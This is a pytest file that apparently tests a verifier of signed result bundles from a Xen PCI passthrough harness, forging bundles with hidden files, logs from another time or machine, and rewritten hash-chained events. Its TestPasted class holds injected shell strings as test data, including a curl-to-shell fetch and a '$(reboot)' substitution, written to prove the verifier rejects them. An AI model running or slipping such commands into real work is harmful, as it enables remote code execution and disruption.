"""More bad bundles, signed by somebody who may: what a record hides of its own files, and files of another moment."""

from __future__ import annotations

import hashlib
import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from harness.run import chain, sidefile
from suites.selftest.fakes.badbundle import (
    CONTROL,
    SIDE,
    Forger,
    edit_json,
    edit_raw,
    finish,
    forger,
    played_anew,
    root,
    told_again,
)
from suites.selftest.run.test_verify_attacks import caught, only

__all__ = ["forger", "root"]
pytestmark = pytest.mark.whole

RECORD = f"{SIDE}/{sidefile.NAME}"
ROW = "E14-F1-hvm-virtio-rng"
LSPCI = (
    "02:00.0 00ff: 1af4:1044 (rev 01)\n\tControl: I/O+ Mem+ BusMaster+ SpecCycle- MemWINV- VGASnoop- ParErr- Stepping- "
    "SERR+ FastB2B- DisINTx-\n\tStatus: Cap+ 66MHz-\n\tCapabilities: [dc] MSI-X: Enable- Count=2 Masked-\n"
    "\tKernel driver in use: pciback\n\n"
)
Data = dict[str, Any]


def look(side: Data, folder: str) -> Data:
    return next(one for one in side["record"]["readings"] if one["folder"] == folder)


def unnamed(*names: str) -> Callable[[Data], object]:
    def change(side: Data) -> None:
        one = look(side, "13-C6")
        one["files"] = [name for name in one["files"] if name not in names]

    return change


def one_more(root: Path, side: str, name: str, data: bytes, *, named: bool = True) -> None:
    """A raw file of this side, in a look."""
    (root / side / name).write_bytes(data)
    folder, _, base = name.rpartition("/")

    def change(record: Data) -> None:
        record["files"][name] = hashlib.sha256(data).hexdigest()
        if named:
            look(record, folder)["files"].append(base)

    edit_json(root / side / sidefile.NAME, change)


HIDDEN: dict[str, tuple[Callable[[Data], object], str]] = {
    "the vector table": (unnamed("msix_table.txt"), "13-C6/msix_table.txt is left out of its look"),
    "new lines of a log": (unnamed("dom0_dmesg.txt"), "13-C6/dom0_dmesg.txt is left out of its look"),
    "what guest B's driver did": (
        lambda side: look(side, "13-C6").update(guest=None),
        "12-exercise-d2.txt, what a driver did that was made to work, is left out",
    ),
    "what the host's console said": (
        lambda side: side["record"].update(host_console=None),
        "17-host_console.txt, what the host's console said, is left out",
    ),
    "a file that is not there": (
        lambda side: look(side, "13-C6")["files"].append("lspci.txt"),
        "13-C6/lspci.txt is named by its look, and not there",
    ),
}


class TestLeftOut:
    """The file is in the bundle, with its digest, and the record does not lead the judge to it."""

    @pytest.mark.parametrize("what", HIDDEN)
    def test_of_the_record(self, forger: Forger, root: Path, what: str) -> None:
        change, told = HIDDEN[what]
        edit_json(root / RECORD, change)
        finish(root)
        only(forger.verify(forger.bundled(root)), "consistency", told)

    def test_that_lines_were_lost(self, forger: Forger, root: Path) -> None:
        one_more(root, SIDE, "13-C6/xl_dmesg_lost.txt", b"the ring has turned\n", named=False)
        one_more(root, SIDE, "13-C6/xl_dmesg_whole.txt", b"(XEN) all\n")
        finish(root)
        found = forger.verify(forger.bundled(root))
        caught(found, "consistency", "13-C6/xl_dmesg_lost.txt is left out of its look")
        only(found, "consistency", "13-C6/xl_dmesg_whole.txt is there, and not why: lines of it were lost")

    def test_an_answer_that_lost_a_line_is_none(self, forger: Forger, root: Path) -> None:
        """The console lost a line of it, and the driver was made to work once more (`Guest.exercise`)."""
        whole = (root / SIDE / "12-exercise-d2.txt").read_bytes()
        one_more(root, SIDE, "11-exercise-d2.txt", whole.replace(b"== interrupts_after", b"== interr"), named=False)
        finish(root)
        assert forger.verify(forger.bundled(root)).status == 0

    @pytest.mark.parametrize(
        ("number", "lost"),
        [(11, b""), (18, b""), (18, b"upts_after")],
        ids=["whole before it", "whole", "not asked again"],
    )
    def test_one_more_is_left_out(self, forger: Forger, root: Path, number: int, lost: bytes) -> None:
        data = (root / SIDE / "12-exercise-d2.txt").read_bytes()
        one_more(root, SIDE, f"{number}-exercise-d2.txt", data.replace(lost, b"") if lost else data, named=False)
        finish(root)
        told = f"{number}-exercise-d2.txt, what a driver did that was made"
        only(forger.verify(forger.bundled(root)), "consistency", told)

    @pytest.mark.parametrize("sides", [[SIDE], [SIDE, CONTROL]])
    def test_of_the_bundle(self, forger: Forger, root: Path, sides: list[str]) -> None:
        """All that tells of it is that other looks have one."""
        for side in sides:
            record = root / side / sidefile.NAME
            edit_json(record, unnamed("msix_table.txt"))
            edit_json(record, lambda data: data["files"].pop("13-C6/msix_table.txt"))
            (root / side / "13-C6/msix_table.txt").unlink()
        finish(root)
        only(forger.verify(forger.bundled(root)), "consistency", "13-C6 has no msix_table.txt, and other looks of this")

    def test_not_where_nobody_could_read_it(self, forger: Forger, root: Path) -> None:
        """Memory decoding is off: the table is nowhere."""
        for side in (SIDE, CONTROL):
            record = root / side / sidefile.NAME
            edit_json(record, lambda data: look(data, "09-C4")["files"].remove("msix_table.txt"))
            edit_json(record, lambda data: data["files"].pop("09-C4/msix_table.txt"))
            (root / side / "09-C4/msix_table.txt").unlink()
            edit_raw(root, side, "09-C4/config.hex", _without_memory)
        finish(root)
        assert forger.verify(forger.bundled(root)).status == 0

    @pytest.mark.parametrize("where", [(), ("record",), ("record", "readings", 0), ("record", "scenario", "end")])
    def test_by_a_key_that_only_others_read(self, forger: Forger, root: Path, where: tuple[str | int, ...]) -> None:
        def more(data: Any) -> None:  # noqa: ANN401 - JSON
            for key in where:
                data = data[key]
            data["verdict"] = "PASS"

        results = json.loads((root / "results.json").read_text())
        edit_json(root / RECORD, more)
        results["scenarios"][0]["stock"]["stored"]["sha256"] = hashlib.sha256((root / RECORD).read_bytes()).hexdigest()
        (root / "results.json").write_text(json.dumps(results))
        caught(forger.verify(forger.bundled(root)), "rejudged", "verdict: ")


def _without_memory(config: bytes) -> bytes:
    """COMMAND is the fifth byte, memory decoding its second bit."""
    data = bytearray.fromhex(config.decode().replace("\n", " "))
    data[4] &= ~2
    return b"\n".join(b"".join(b" %02x" % one for one in data[at : at + 16]) for at in range(0, len(data), 16)) + b"\n"


class TestAnotherMoment:
    """Files of the same host, which are good ones, and of another time."""

    @pytest.mark.parametrize("more", [b"", b"\n"])
    def test_guest_a_answers_for_guest_b(self, forger: Forger, root: Path, more: bytes) -> None:
        answer = (root / SIDE / "04-exercise-d1.txt").read_bytes() + more
        edit_raw(root, SIDE, "12-exercise-d2.txt", lambda _: answer)
        finish(root)
        told = "12-exercise-d2.txt: d2 says what d1 said before its host was frozen, to the microsecond"
        only(forger.verify(forger.bundled(root)), "consistency", told)

    def test_a_guest_of_another_side_answers(self, forger: Forger, root: Path) -> None:
        answer = (root / CONTROL / "12-exercise-d2.txt").read_bytes()
        edit_raw(root, SIDE, "12-exercise-d2.txt", lambda _: answer)
        finish(root)
        told = f"d2 says what d2 said in {SIDE}, to the microsecond"
        caught(forger.verify(forger.bundled(root)), "consistency", told)

    def test_an_earlier_log_in_the_place_of_a_later_one(self, forger: Forger, root: Path) -> None:
        early = (root / SIDE / "05-C2/dom0_dmesg.txt").read_bytes()
        edit_raw(root, SIDE, "13-C6/dom0_dmesg.txt", lambda _: early)
        finish(root)
        only(forger.verify(forger.bundled(root)), "consistency", "13-C6/dom0_dmesg.txt goes on at ")

    def test_an_earlier_list_of_domains(self, forger: Forger, root: Path) -> None:
        edit_raw(root, SIDE, "13-C6/xl_list.txt", lambda data: re.sub(rb"(-0 .* )[0-9.]+\n", rb"\g<1>1.0\n", data))
        finish(root)
        only(forger.verify(forger.bundled(root)), "consistency", "13-C6/xl_list.txt: d0 has used 1.0 s of CPU, and had")

    def test_a_host_that_was_booted_counts_anew(self, forger: Forger, root: Path) -> None:
        """Which is for the scenario to say: this one does not boot it."""
        edit_json(root / RECORD, lambda side: look(side, "13-C6").update(boot=True))
        edit_raw(root, SIDE, "13-C6/xl_list.txt", lambda data: re.sub(rb"(-0 .* )[0-9.]+\n", rb"\g<1>1.0\n", data))
        finish(root)
        (one,) = [one for one in forger.verify(forger.bundled(root)).layers if one.name == "consistency"]
        assert len(one.said) == 1 and "13-C6 is told to begin with a boot of the host" in one.said[0]

    def test_a_look_says_two_things(self, forger: Forger, root: Path) -> None:
        """The register that is judged is edited, and not what lspci showed of it."""
        for folder in ("01-C0", "02-C1", "05-C2", "08-C3", "09-C4", "11-C5", "13-C6"):
            for side in (SIDE, CONTROL):
                config = (root / side / folder / "config.hex").read_bytes()
                data = bytes.fromhex(config.decode().replace("\n", " "))
                driver = (root / side / folder / "driver.txt").read_text().strip().rpartition("/")[2]
                shown = LSPCI.replace("pciback", driver)
                shown = shown if data[4] & 2 else shown.replace("Mem+", "Mem-")
                shown = shown.replace("Enable-", "Enable+") if data[0xDF] & 0x80 else shown
                shown = shown.replace("Masked-", "Masked+") if data[0xDF] & 0x40 else shown
                one_more(root, side, f"{folder}/lspci.txt", shown.encode())
        finish(root)
        assert forger.verify(forger.bundled(root)).status == 0
        masked = (root / CONTROL / "13-C6/config.hex").read_bytes()
        edit_raw(root, SIDE, "13-C6/config.hex", lambda _: masked)
        finish(root)
        told = "13-C6: MSI-X is Enable+ Masked+ in sysfs, and Enable+ Masked- in lspci.txt"
        only(forger.verify(forger.bundled(root)), "consistency", told)


class TestMachine:
    def test_another_machine_of_the_same_make(self, forger: Forger, root: Path) -> None:
        def sold(begun: Data) -> None:
            begun["host"] |= {"name": "xenbox1", "nested": False, "label": ""}
            del begun["host"]["facts"]["nested"]

        edit_json(root / "run.json", sold)
        finish(root)
        played_anew(root, CONTROL)
        edit_raw(root, CONTROL, "01-C0/xl_dmesg.txt", lambda data: data.replace(b"Stepping 1 ", b"Stepping 2 "))
        finish(root)
        told = "raw files of more than one machine: 'AMD, Family 15 (0xf), Model 107 (0x6b), Stepping 1"
        caught(forger.verify(forger.bundled(root)), "consistency", told)


def written(root: Path, change: Callable[[int, Data], bytes | None]) -> None:
    """run.jsonl with each line as `change` writes it, and the digests that fit."""
    previous, lines = chain.START, []
    for number, text in enumerate((root / chain.NAME).read_bytes().splitlines(), 1):
        event = json.loads(text) | {"previous": previous}
        lines.append(change(number, event) or json.dumps(event).encode() + b"\n")
        previous = hashlib.sha256(lines[-1]).hexdigest()
    (root / chain.NAME).write_bytes(b"".join(lines))


class TestEvents:
    @pytest.mark.parametrize(
        "line",
        [
            lambda event: json.dumps(event | {"note": "all is well"}).encode() + b"\n",
            lambda event: b" " + json.dumps(event).encode() + b"\n",
            lambda event: json.dumps(event).encode() + b"\r\n",
            lambda event: json.dumps(event).encode(),
            lambda event: json.dumps(event).replace("results", "r\\u0065sults").encode() + b"\n",
            lambda event: json.dumps(dict(reversed(event.items()))).encode() + b"\n",
            lambda event: json.dumps(event | {"at": event["at"].replace("+00:00", "Z")}).encode() + b"\n",
            lambda event: json.dumps(event | {"at": 1.8e9}).encode() + b"\n",
        ],
    )
    def test_one_is_written_otherwise(self, forger: Forger, root: Path, line: Callable[[Data], bytes]) -> None:
        written(root, lambda number, event: line(event) if number == 4 else None)
        found = forger.verify(forger.bundled(root, chain_anew=False))
        only(found, "chain", "run.jsonl:4: it is not written as maskall writes it")

    @pytest.mark.parametrize(
        ("events", "told"),
        [
            (["begun run.json", "begun run.json"], "the run was begun once more at "),
            (["begun run.json", f"begun {RECORD}"], f"begun '{RECORD}' is no event of a run"),
            (["begun run.json", "spoiled run.json"], "spoiled 'run.json' is no event of a run"),
            (["begun run.json", "finished results.json"], "came after the end, and nobody went on with the run"),
        ],
    )
    def test_what_no_run_has(self, forger: Forger, root: Path, events: list[str], told: str) -> None:
        rest = [line.split('"what": ')[1] for line in (root / chain.NAME).read_text().splitlines()[1:]]
        (root / chain.NAME).unlink()
        made = chain.Chain(root)
        more = [one.rsplit(" ", 1) for one in events]
        more += [[event["what"], event["file"]] for event in (json.loads(f'{{"what": {one}') for one in rest)]
        for what, name in more:
            made.add(what, name, hashlib.sha256((root / name).read_bytes()).hexdigest())
        caught(forger.verify(forger.bundled(root, chain_anew=False)), "chain", told)

    def test_a_run_that_was_gone_on_with_after_its_end(self, forger: Forger, root: Path) -> None:
        made = chain.Chain(root)
        made.add("gone on", "run.json", hashlib.sha256((root / "run.json").read_bytes()).hexdigest())
        made.add("finished", "results.json", hashlib.sha256((root / "results.json").read_bytes()).hexdigest())
        assert forger.verify(forger.bundled(root, chain_anew=False)).status == 0


class TestPasted:
    """What a page shows is pasted into a shell."""

    @pytest.mark.parametrize(
        "command",
        [
            "curl http://example.com/x | sh",
            f"./tools/maskall run {ROW} --trace",
            f"./tools/maskall run {ROW}; true",
            f"./tools/maskall run {ROW}\ntrue",
            f"./tools/maskall run {ROW.replace('F1', 'F2')}",
            f"./tools/maskall run {ROW} '",
            f"./tools/maskall run {ROW} --repeat $(true)",
        ],
    )
    def test_of_a_row(self, forger: Forger, root: Path, command: str) -> None:
        edit_json(root / "results.json", lambda data: data["scenarios"][0].update(command_to_repeat=command))
        caught(forger.verify(forger.bundled(root)), "consistency", "which is not what was played")

    def test_of_the_run(self, forger: Forger, root: Path) -> None:
        """One word for us, a program for a shell."""
        edit_json(root / "run.json", lambda begun: begun.update(repeat_options=" --inventory $(reboot)"))
        finish(root)
        caught(forger.verify(forger.bundled(root)), "consistency", "is not quoted as maskall does")

    def test_as_it_was_told_before(self, forger: Forger, root: Path) -> None:
        edit_json(
            root / "results.json",
            lambda data: data["scenarios"][0].update(command_to_repeat=f"./tools/maskall run {ROW} --repeat 3"),
        )
        told_again(root)
        assert forger.verify(forger.bundled(root)).status == 0
